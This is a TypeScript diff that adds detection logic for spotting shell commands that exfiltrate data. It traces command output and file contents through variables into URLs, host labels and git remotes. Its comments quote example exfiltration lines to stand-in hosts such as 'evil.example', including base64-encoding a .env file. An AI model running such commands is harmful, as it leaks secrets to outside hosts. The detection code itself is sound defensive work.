@@ -67,3 +67,77 @@ export function remoteSpecHost(spec: string): string | undefined {
 export function allLoopback(hosts: readonly string[]): boolean {
   return hosts.length > 0 && hosts.every(isLoopback);
 }
+
+/** A command's output inside a word: `$(…)`, backquotes, `<(…)`. */
+const SUBSTITUTION = /\$\(|`|<\(/;
+/** Variables a word expands. */
+const EXPANSION = /\$\{?([A-Za-z_]\w*)/g;
+/** A substitution or expansion, for taking them out of a word. */
+const EXPANSIONS = /\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|\$\{[^}]*\}|\$[A-Za-z_]\w*/g;
+/** Output standing as whole host labels before a domain of two labels or more (`$(…).evil.example:443`). */
+const OUTPUT_LABEL =
+  /(^|[.@/])(\u0000)+\.[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)*\.[A-Za-z][A-Za-z0-9-]*\.?(:\d+)?($|\/)/;
+/** A registry or module reference: a dotted host, then a path (`evil.example/x`). */
+const HOST_PATH = /^[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+(:\d+)?\//;
+
+/** Whether a word holds a command's output: a substitution, or a variable `names` says holds some. */
+export function holdsOutput(word: string, names: ReadonlySet<string>): boolean {
+  if (SUBSTITUTION.test(word)) return true;
+  if (names.size === 0 || !word.includes('$')) return false;
+  for (const m of word.matchAll(EXPANSION)) if (names.has(m[1] as string)) return true;
+  return false;
+}
+
+/**
+ * Whether a word a client connects with sends a command's output: a URL holding it anywhere, a
+ * `user@host:` spec, a host name built from it, or a `host/path` reference holding it.
+ */
+export function urlCarriesOutput(word: string, names: ReadonlySet<string>): boolean {
+  if (!holdsOutput(word, names)) return false;
+  // `u=https://evil/$(…); git fetch "$u"`: a variable holding such a URL is one.
+  for (const m of word.matchAll(EXPANSION)) if (names.has(`${m[1] as string}://`)) return true;
+  if (word.includes('://') || HOST_PATH.test(word) || /^[^\s/]*@[^\s/:]+:/.test(word)) return true;
+  const marked = word.replace(EXPANSIONS, (e) => (holdsOutput(e, names) ? '\u0000' : 'x'));
+  return OUTPUT_LABEL.test(marked);
+}
+
+/**
+ * The variables the command assigns from a command's output, a file or another such variable
+ * (`x=$(base64 .env)`, `read x < .env`, `for x in $(…)`, `y=pre$x`): a word expanding them carries it.
+ */
+export function outputVariables(texts: readonly string[]): Set<string> {
+  const names = new Set<string>();
+  const text = texts.join('\n');
+  if (!text.includes('$') && !text.includes('`') && !/\b(read|mapfile|readarray|printf)\b/.test(text))
+    return names;
+  for (const m of text.matchAll(
+    /\b(?:read|mapfile|readarray)\b((?:\s+-\w+(?:\s+[^-\s;&|]\S*)?)*)((?:\s+[A-Za-z_]\w*)+)/g,
+  ))
+    for (const name of (m[2] as string).trim().split(/\s+/)) names.add(name);
+  for (const m of text.matchAll(/\bprintf\s+-v\s*([A-Za-z_]\w*)/g)) names.add(m[1] as string);
+  for (const m of text.matchAll(/\bfor\s+([A-Za-z_]\w*)\s+in\s+([^;\n]*)/g))
+    if (SUBSTITUTION.test(m[2] as string)) names.add(m[1] as string);
+  const assignments = [
+    ...text.matchAll(
+      /(?:^|[\s;&|(])([A-Za-z_]\w*)\+?=("(?:[^"\\]|\\.)*"|\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|[^\s;&|'"]*)/g,
+    ),
+  ];
+  // To a fixed point: `y=$x` holds what x holds.
+  for (let changed = true, round = 0; changed && round < 8; round++) {
+    changed = false;
+    for (const m of assignments) {
+      const name = m[1] as string;
+      if (!names.has(name) && holdsOutput(m[2] as string, names)) {
+        names.add(name);
+        changed = true;
+      }
+    }
+  }
+  // Variables holding a URL or host built from output are marked `NAME://` as well.
+  for (const m of assignments) {
+    const name = m[1] as string;
+    if (names.has(name) && urlCarriesOutput((m[2] as string).replace(/^"|"$/g, ''), names))
+      names.add(`${name}://`);
+  }
+  return names;
+}
